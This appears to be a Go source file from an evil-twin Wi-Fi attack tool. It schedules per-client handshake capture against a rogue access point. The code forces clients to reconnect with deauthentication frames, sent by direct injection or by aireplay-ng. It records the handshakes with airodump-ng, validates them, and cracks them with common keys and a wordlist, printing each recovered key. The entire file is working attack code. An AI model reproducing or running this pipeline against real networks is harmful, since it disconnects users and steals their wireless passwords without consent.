// Package handshake schedules per-client capture attempts against the
// rogue AP with a hard concurrency bound and a per-client attempt cap,
// validating captures and handing successes to the cracking stage.
package handshake

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"twincast/libs"
	"twincast/libs/frames"
	"twincast/libs/proc"
)

type Status int

const (
	StatusStarting Status = iota
	StatusCapturing
	StatusCompleted
)

type Task struct {
	Client  string
	Status  Status
	Started time.Time
	done    chan struct{}
}

// CaptureFunc runs one capture attempt; swappable in tests.
type CaptureFunc func(ctx context.Context, client string) (capFile string, ok bool)

type Pipeline struct {
	Color         libs.Colors
	Iface         string
	RogueBSSID    string
	Channel       int
	WorkDir       string
	Wordlist      string
	MaxConcurrent int
	MaxAttempts   int
	Window        time.Duration
	RetryDelay    time.Duration
	Capture       CaptureFunc
	Registry      *proc.Registry

	// session callbacks
	IsConnected func(mac string) bool
	OnHandshake func(mac string, capFile string)
	OnCracked   func(mac string, key string)

	mu       sync.Mutex
	queue    []string
	active   map[string]*Task
	attempts map[string]int
	captured map[string]bool
	wg       sync.WaitGroup
}

func NewPipeline(color libs.Colors, ifaceName string, bssid string, channel int, workDir string) *Pipeline {
	p := &Pipeline{
		Color:         color,
		Iface:         ifaceName,
		RogueBSSID:    bssid,
		Channel:       channel,
		WorkDir:       workDir,
		MaxConcurrent: 2,
		MaxAttempts:   3,
		Window:        60 * time.Second,
		RetryDelay:    30 * time.Second,
		Registry:      proc.NewRegistry(),
		active:        make(map[string]*Task),
		attempts:      make(map[string]int),
		captured:      make(map[string]bool),
	}
	p.Capture = p.captureOnce
	return p
}

// Eligible applies the admission rules: connected, not captured, not
// in flight, not already queued, under the attempt cap.
func (p *Pipeline) Eligible(client string) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.captured[client] {
		return false
	}
	if _, inFlight := p.active[client]; inFlight {
		return false
	}
	for _, queued := range p.queue {
		if queued == client {
			return false
		}
	}
	return p.attempts[client] < p.MaxAttempts
}

// Offer queues a client when eligible
func (p *Pipeline) Offer(client string) bool {
	if p.IsConnected != nil && !p.IsConnected(client) {
		return false
	}
	if !p.Eligible(client) {
		return false
	}
	p.mu.Lock()
	p.queue = append(p.queue, client)
	p.mu.Unlock()
	return true
}

func (p *Pipeline) ActiveCount() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return len(p.active)
}

func (p *Pipeline) Attempts(client string) int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.attempts[client]
}

// Run is the pipeline monitor: admits queued clients while under the
// concurrency bound and prunes finished tasks. Cadence follows load.
func (p *Pipeline) Run(ctx context.Context) {
	for {
		select {
		case <-ctx.Done():
			p.join(5 * time.Second)
			return
		default:
		}
		var admitted *Task
		p.mu.Lock()
		p.prune()
		if len(p.queue) > 0 && len(p.active) < p.MaxConcurrent {
			var client string = p.queue[0]
			p.queue = p.queue[1:]
			if p.attempts[client] < p.MaxAttempts && !p.captured[client] {
				p.attempts[client]++
				admitted = &Task{Client: client, Status: StatusStarting, Started: time.Now(), done: make(chan struct{})}
				p.active[client] = admitted
			}
		}
		var busy bool = len(p.active) > 0 || len(p.queue) > 0
		p.mu.Unlock()
		if admitted != nil {
			p.wg.Add(1)
			go p.runTask(ctx, admitted)
		}
		if busy {
			time.Sleep(500 * time.Millisecond)
		} else {
			time.Sleep(2 * time.Second)
		}
	}
}

// prune drops completed tasks, callers hold p.mu
func (p *Pipeline) prune() {
	for client, task := range p.active {
		select {
		case <-task.done:
			delete(p.active, client)
		default:
		}
	}
}

func (p *Pipeline) runTask(ctx context.Context, task *Task) {
	defer p.wg.Done()
	defer close(task.done)
	task.Status = StatusCapturing
	capFile, ok := p.Capture(ctx, task.Client)
	if !ok {
		// One delayed retry with a stronger burst
		select {
		case <-ctx.Done():
			return
		case <-time.After(p.RetryDelay):
		}
		p.deauthBurst(ctx, task.Client, 10)
		capFile, ok = p.Capture(ctx, task.Client)
	}
	task.Status = StatusCompleted
	if !ok {
		return
	}
	p.mu.Lock()
	p.captured[task.Client] = true
	p.mu.Unlock()
	if p.OnHandshake != nil {
		p.OnHandshake(task.Client, capFile)
	}
	p.crack(ctx, task.Client, capFile)
}

// captureOnce triggers a fresh handshake and records against the rogue
// BSSID for one window, validating every new capture file.
func (p *Pipeline) captureOnce(ctx context.Context, client string) (string, bool) {
	p.deauthBurst(ctx, client, 3)
	time.Sleep(time.Second)
	p.deauthBurst(ctx, client, 2)
	var prefix string = filepath.Join(p.WorkDir, "hs_"+strings.ReplaceAll(client, ":", ""))
	handle, err := p.startCapture(prefix)
	if err != nil {
		libs.Warning(p.Color, "Capture start failed for "+client+": "+err.Error())
		return "", false
	}
	defer func() {
		handle.Stop(2 * time.Second)
		p.Registry.Unregister(handle)
	}()
	var deadline time.Time = time.Now().Add(p.Window)
	var seen map[string]bool = make(map[string]bool)
	for time.Now().Before(deadline) {
		select {
		case <-ctx.Done():
			return "", false
		case <-time.After(5 * time.Second):
		}
		for _, capFile := range findCaptureFiles(prefix) {
			if seen[capFile] {
				continue
			}
			seen[capFile] = true
			if count, err := frames.CountEapol(capFile); err == nil && count == 0 {
				continue // nothing key-shaped yet, skip the slow validator
			}
			if Validate(ctx, capFile) {
				return capFile, true
			}
		}
	}
	return "", false
}

func (p *Pipeline) startCapture(prefix string) (*proc.Handle, error) {
	// Registered so cleanup's StopAll reaches in-flight captures too; the
	// timeout is a backstop past the capture window.
	return p.Registry.Background("airodump:handshake", p.Window+30*time.Second, "airodump-ng",
		"--bssid", p.RogueBSSID,
		"--channel", strconv.Itoa(p.Channel),
		"--write", prefix,
		"--output-format", "pcap",
		p.Iface)
}

// deauthBurst triggers a reauthentication: native injection when the
// radio gives us a handle, aireplay-ng otherwise.
func (p *Pipeline) deauthBurst(ctx context.Context, client string, count int) {
	if p.injectBurst(client, count) {
		return
	}
	proc.Run(ctx, 10*time.Second, "aireplay-ng",
		"-0", strconv.Itoa(count),
		"-a", p.RogueBSSID,
		"-c", client,
		p.Iface)
}

func (p *Pipeline) injectBurst(client string, count int) bool {
	handle, failed := frames.OpenMonitorHandle(p.Iface)
	if failed {
		return false
	}
	defer handle.Close()
	for seq := 0; seq < count; seq++ {
		if frames.Inject(handle, frames.Deauth(p.RogueBSSID, client, seq)) {
			return false
		}
		time.Sleep(10 * time.Millisecond)
	}
	return true
}

func (p *Pipeline) crack(ctx context.Context, client string, capFile string) {
	if key, err := CrackCommon(ctx, capFile); err == nil {
		libs.Success(p.Color, "Cracked "+client+": "+p.Color.Red+key+p.Color.White)
		if p.OnCracked != nil {
			p.OnCracked(client, key)
		}
		return
	}
	if p.Wordlist == "" {
		return
	}
	if key, err := CrackWordlist(ctx, capFile, p.Wordlist); err == nil {
		libs.Success(p.Color, "Cracked "+client+": "+p.Color.Red+key+p.Color.White)
		if p.OnCracked != nil {
			p.OnCracked(client, key)
		}
	}
}

// join waits out the remaining tasks during cleanup, bounded
func (p *Pipeline) join(bound time.Duration) {
	done := make(chan struct{})
	go func() {
		p.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(bound):
	}
}

// findCaptureFiles lists the tool's rotating output for a prefix
func findCaptureFiles(prefix string) []string {
	matches, err := filepath.Glob(prefix + "-*.cap")
	if err != nil {
		return nil
	}
	var files []string
	for _, match := range matches {
		if info, err := os.Stat(match); err == nil && info.Size() > 0 {
			files = append(files, match)
		}
	}
	return files
}

// String formats a task for the status report
func (t *Task) String() string {
	var status string
	switch t.Status {
	case StatusStarting:
		status = "starting"
	case StatusCapturing:
		status = "capturing"
	case StatusCompleted:
		status = "completed"
	}
	return fmt.Sprintf("%s (%s, %s)", t.Client, status, libs.SecondsToHMS(int(time.Since(t.Started).Seconds())))
}
